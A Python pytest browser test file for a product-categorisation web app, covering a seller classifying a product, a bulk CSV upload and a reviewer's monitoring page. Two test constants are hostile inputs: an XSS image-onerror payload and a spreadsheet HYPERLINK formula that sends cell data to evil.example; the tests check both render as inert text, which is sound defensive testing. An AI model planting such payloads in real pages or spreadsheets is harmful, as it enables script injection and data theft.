"""The seller's page in a real browser (headless Chromium, a served app with login started here):
a seller sees only the seller's page, classifies one product with a real fashion photo, picks the
second suggestion and the answer is stored as feedback; a CSV of 20 products with two choices
changed is submitted at once; hostile titles show as text."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from _browser import add_users, require_chromium, serve_in_thread
from _hostile_setup import Watched, chromium

pytestmark = [pytest.mark.browser, pytest.mark.slow]

PHOTOS = Path("/work/shared/datasets/fashion/images_small")
USERS = {"sam": ("sam-password", "seller"), "ana": ("ana-password", "reviewer")}
HOSTILE_TITLE = '<img src=x onerror="window.__xss=1"> Nike Men Shoes'
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click") Puma Tee'


@pytest.fixture(scope="module")
def served(sample_workspace, tmp_path_factory):
    """1,200 real fashion products with a tfidf run, served with login for a seller and a reviewer."""
    require_chromium()
    from workbench.runs.training import train_models

    ws = sample_workspace("seller_browser", 1200, seed=5)
    train_models(ws, ["tfidf"], "grouped", seed=0)
    creds = tmp_path_factory.mktemp("seller_creds") / "credentials.json"
    add_users(creds, USERS)
    server, url = serve_in_thread(ws.path, creds)
    yield ws, url
    server.stop()


@pytest.fixture(scope="module")
def browser(served):
    with chromium() as b:
        yield b


@pytest.fixture
def seller(browser, served):
    _, url = served
    w = Watched(browser)
    w.login(url, "sam", USERS["sam"][0], "/?page=review")  # asks for the review page: gets the seller's
    w.page.wait_for_selector(".wb-seller-page", timeout=120_000)
    yield w
    w.close()


def wait_for(check, timeout: float = 30.0):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        value = check()
        if value:
            return value
        time.sleep(0.3)
    raise AssertionError("timed out")


def test_a_seller_sees_only_their_page_and_answers_with_the_second_suggestion(served, seller, output_dir):
    ws, _ = served
    page = seller.page
    menu = page.locator(".wb-nav button").all_inner_texts()
    assert [m.strip() for m in menu] == ["Seller's page"]
    photo = sorted(PHOTOS.glob("*.jpg"))[0]
    page.locator(".wb-seller-title input").fill("Nike Men Black Running Shoes")
    page.locator(".wb-seller-title input").press("Enter")
    page.locator(".wb-seller-photo-upload input[type=file]").set_input_files(str(photo))
    page.get_by_text("checked and attached").first.wait_for()
    page.get_by_role("button", name="Suggest categories").click()
    table = page.locator(".wb-seller-top5")
    table.first.wait_for()
    rows = table.locator("tbody tr")
    wait_for(lambda: rows.count() == 5)
    second = rows.nth(1).locator(".wb-path").first.get_attribute("title")  # the whole path (two levels shown)
    page.locator(".wb-seller-picks input[type=radio]").nth(1).check()
    page.locator(".wb-seller-choice", has_text=second.split(" > ")[-1]).first.wait_for()
    page.screenshot(path=str(output_dir / "seller_page.png"))
    page.get_by_role("button", name="Send my answer").click()
    page.get_by_text("Thank you: saved").first.wait_for()
    page.get_by_text("was the first suggestion right? no").first.wait_for()
    stored = ws.df("SELECT f.actor, f.accepted, f.category, f.rank, f.channel, fp.image, fp.title_raw "
                   "FROM feedback f JOIN feedback_products fp USING (product_id) WHERE f.actor = 'sam'")
    assert len(stored) == 1
    row = stored.iloc[0]
    assert row["channel"] == "seller" and not row["accepted"] and row["rank"] == 2
    assert row["category"] == second and row["title_raw"] == "Nike Men Black Running Shoes"
    assert Path(row["image"]).is_file() and Path(row["image"]).parent.name == "seller"  # re-encoded copy kept
    assert ws.scalar("SELECT count(*) FROM products WHERE product_id LIKE 'seller:%'") == 0  # apart until confirmed
    seller.assert_inert("the seller's page")


def pick(page, css: str, leaf: str) -> None:
    """Type part of ``leaf`` into the search box ``css`` and choose it from the menu."""
    box = page.locator(f"{css} input").first
    box.fill("")
    box.type(leaf.split(" > ")[-1][:10], delay=30)
    page.locator(".bk-menu > div", has_text=leaf).first.click()


def test_a_bulk_upload_of_twenty_rows_with_two_changed_choices(served, seller, tmp_path, output_dir):
    ws, _ = served
    page = seller.page
    titles = ws.df("SELECT title_raw FROM products ORDER BY product_id LIMIT 18")["title_raw"].tolist()
    titles = [HOSTILE_TITLE, FORMULA_TITLE, *titles]
    csv = tmp_path / "my products.csv"
    csv.write_text("id,title\n" + "\n".join(f'sku-{i},"{t.replace(chr(34), chr(34) * 2)}"'
                                           for i, t in enumerate(titles)), encoding="utf-8")
    page.locator(".wb-seller-upload input[type=file]").set_input_files(str(csv))
    table = page.locator(".wb-seller-bulk")
    table.first.wait_for()
    wait_for(lambda: table.locator("tbody tr").count() == 20)
    # hostile titles are shown as text (the rows are drawn before their cells are filled: under
    # load the first read found 20 empty rows)
    rows_text = lambda: "\n".join(table.locator("tbody tr").all_inner_texts())  # noqa: E731
    try:
        wait_for(lambda: HOSTILE_TITLE in rows_text(), timeout=30)
    except AssertionError:
        pass  # the assertion below says what the rows hold
    text = rows_text()
    assert HOSTILE_TITLE in text and FORMULA_TITLE in text, text[:500]
    seller.assert_inert("the bulk table")
    suggestion = table.locator("tbody tr").nth(3).locator(".wb-path").first.get_attribute("title")
    leaves = ws.df("SELECT DISTINCT leaf FROM products WHERE leaf IS NOT NULL ORDER BY leaf")["leaf"].tolist()
    target = next(leaf for leaf in leaves if leaf.split(" > ")[0] != suggestion.split(" > ")[0]
                  and leaf.split(" > ")[-1] != "Others")
    for row, leaf in ((4, target), (9, "(none fits)")):
        page.locator(".wb-seller-row input").fill(str(row))
        page.locator(".wb-seller-row input").press("Enter")
        pick(page, ".wb-seller-bulk-search", leaf)
        page.get_by_role("button", name="Change this row's choice").click()
        page.wait_for_timeout(400)
    wait_for(lambda: table.locator("tbody tr").nth(3).inner_text().count(target.split(" > ")[-1]) >= 1)
    page.screenshot(path=str(output_dir / "seller_bulk.png"))
    page.get_by_role("button", name="Submit every row").click()
    page.get_by_text("20 answers saved").first.wait_for()
    page.get_by_text("18 first suggestions confirmed, 2 changed").first.wait_for()
    stored = ws.df("SELECT product_id, accepted, category, none_fits FROM feedback WHERE actor = 'sam' "
                   "AND product_id LIKE 'seller:sam:sku-%'").set_index("product_id")
    assert len(stored) == 20 and int(stored["accepted"].sum()) == 18
    assert stored.loc["seller:sam:sku-3", "category"] == target
    assert bool(stored.loc["seller:sam:sku-8", "none_fits"]) and stored["none_fits"].sum() == 1
    titles_kept = ws.df("SELECT title_raw FROM feedback_products WHERE product_id IN "
                        "('seller:sam:sku-0', 'seller:sam:sku-1') ORDER BY product_id")["title_raw"].tolist()
    assert titles_kept == [HOSTILE_TITLE, FORMULA_TITLE]  # kept as the seller wrote them, shown escaped
    seller.assert_inert("submitting the bulk table")


def test_a_reviewer_sees_the_misleading_seller_flagged_on_the_monitoring_page(served, browser):
    """20 simulated sellers' answers on held-out products, one misleading: the Monitoring page
    lists that seller with their low-probability choices (hostile titles as text), no one else."""
    from workbench.loop.misleading_sellers import (held_out_probabilities, record_simulated_choices,
                                                  simulate_seller_choices)
    from workbench.runs.selection import default_run

    ws, url = served
    proba, truth, classes = held_out_probabilities(ws, default_run(ws))
    sim = simulate_seller_choices(proba, truth, classes, n_sellers=20, n_products=100, seed=1)
    record_simulated_choices(ws, sim, default_run(ws),
                             title=lambda seller, row: HOSTILE_TITLE if seller == "seller-00" else f"product {row}")
    liar = sim[(sim["seller"] == "seller-00") & (sim["chosen_proba"] < 0.01)]
    w = Watched(browser)
    try:
        page = w.login(url, "ana", USERS["ana"][0], "/?page=monitoring")
        flagged = page.locator(".wb-flagged-seller")
        flagged.first.wait_for(timeout=120_000)
        names = [flagged.nth(i).get_attribute("data-seller") for i in range(flagged.count())]
        assert [n for n in names if n.startswith("sim-")] == ["sim-seller-00"]  # the 19 honest ones are not
        mine = page.locator(".wb-flagged-seller[data-seller='sim-seller-00']")
        text = mine.inner_text()
        assert f"{len(liar)} of 100 choices" in text and HOSTILE_TITLE in text
        assert mine.locator("tr").count() == len(liar) + 1  # a header and one row per low choice
        w.assert_inert("the flagged sellers")
    finally:
        w.close()
